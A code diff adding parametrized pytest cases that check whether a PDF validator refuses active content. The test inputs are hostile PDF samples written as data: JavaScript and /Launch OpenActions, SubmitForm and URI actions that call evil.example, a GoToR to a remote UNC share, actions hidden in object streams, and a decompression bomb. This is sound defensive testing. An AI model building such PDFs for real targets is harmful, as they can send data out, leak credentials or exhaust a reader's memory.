@@ -6,6 +6,7 @@ import hashlib
 import io
 import struct
 import threading
+import time
 import zlib
 
 import pypdfium2
@@ -15,6 +16,7 @@ from PIL import Image, ImageChops
 from doc_templates import images
 from doc_templates.errors import PaperError
 from doc_templates.images import check_pdf, page_image, photos_to_pdf
+from doc_templates.pdfcheck import active_content
 
 CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
 PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
@@ -214,6 +216,61 @@ def test_words_about_scripts_do_not_make_a_pdf_active() -> None:
 )  # fmt: skip
 def test_pdfs_that_must_not_get_in(data: bytes, expected: str) -> None:
     assert code(data) == expected
+
+
+SCRIPT = b"<< /S /JavaScript /JS (1) >>"
+
+
+def packed(body: bytes, head: bytes = b"/N 1 /First 4 /Filter /FlateDecode") -> bytes:
+    """A PDF with an object stream that is referred to."""
+    return simple(b"/X 4 0 R", b"", stream(b"/Type /ObjStm " + head, body))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pdf_of(CATALOG % b"/OpenAction 4 0 R", PAGES, PAGE % b"", b"%(\n" + SCRIPT + b"\n%)\n"),
+        pdf_of(CATALOG % b"/OpenAction 4 0 R", PAGES, PAGE % b"",
+               b"%stream\n" + SCRIPT + b"\n%endstream\n"),
+        simple(b"", b"", b"null % 9 0 obj " + SCRIPT + b" endobj"),
+        simple(b"", b"", stream(b"", b"9 0 obj " + SCRIPT + b" endobj")),
+        simple(b"", b"", b"(9 0 obj " + SCRIPT + b" endobj)"),
+        simple(b"/X << /S 4 0 R >>", b"", b"/JavaScript"),
+        simple(b"/X [((()) \\( ) << /S /Launch >> (\\)) ]"),
+        simple(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
+        simple(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
+        simple(b"/OpenAction 4 0 R", b"", b"<< /S /URI /URI (http://evil.example/) >>"),
+        simple(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"),
+        simple(b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>"),
+        packed(zlib.compress(b"9 0 << /S /Launch >>")),
+        packed(b"9 0 " + SCRIPT, b"/N 1 /First 4"),
+        packed(b"xyz", b"/N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]"),
+        packed(b"no flate at all"),
+        packed(zlib.compress(b"9 0 null")[:-6]),
+        packed(zlib.compress(b"9 0 null"), b"/N 4 0 R /First 4 /Filter /FlateDecode"),
+        packed(zlib.compress(b"9 0 << /A 1 >>" + bytes(65 << 20))),
+        simple(b"/X (no end"),
+        simple() + b"obj%" * 50_000,
+        pdf_of(CATALOG % b"", PAGES, PAGE % b"", trailer=b"/X << /S /Launch >>"),
+    ],
+    ids=["comment that looks like a string", "comment that looks like a stream",
+         "object in a comment", "object in a stream", "object in a string", "a name by itself",
+         "strings within strings", "sends", "opens a page", "opens a page, elsewhere", "and then",
+         "another machine", "packed", "packed without filter", "packed twice", "not packed",
+         "cut off", "count elsewhere", "bomb", "no end", "many beginnings", "trailer"],
+)  # fmt: skip
+def test_whatever_a_reader_could_take_for_an_action_is_refused(data: bytes) -> None:
+    """What cannot be read for certain does not get in; each answer comes within seconds."""
+    begun = time.process_time()
+    assert active_content(data) is not None
+    assert time.process_time() - begun < 5
+
+
+def test_objects_packed_as_usual_and_links_to_pages_pass() -> None:
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>"
+    assert check_pdf(packed(zlib.compress(b"9 0 << /S /P >>"))) == 1
+    assert check_pdf(simple(b"/OpenAction [3 0 R /Fit]", b"/Annots [4 0 R]", link)) == 1
+    assert check_pdf(simple(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>")) == 1
 
 
 def test_too_many_pages_are_refused() -> None:
